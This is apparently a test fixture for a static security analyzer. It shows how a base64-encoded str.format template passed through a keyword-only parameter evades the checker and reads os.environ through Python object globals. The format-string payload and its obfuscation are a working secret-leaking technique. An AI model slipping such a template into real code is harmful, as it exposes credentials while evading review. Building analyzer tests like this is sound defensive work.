# family: format
# Escape: str.format on a parameter of a module-level function is trusted when every call in the tool passes a
# literal there. The caller check looks parameters up by position, but keyword-only parameters are recorded with
# position -1 and an empty name, so no call is ever inspected. The tool passes a base64-decoded template
# "{0.__init__.__globals__[_os].environ}": str.format walks random.Random.__init__ (a Python function) to the
# random module's globals, then os.environ, and returns the process environment.
import base64
import random


def render(*, template: str, value) -> str:
    return template.format(value)


def tool() -> str:
    text = base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode()
    return render(template=text, value=random.Random())
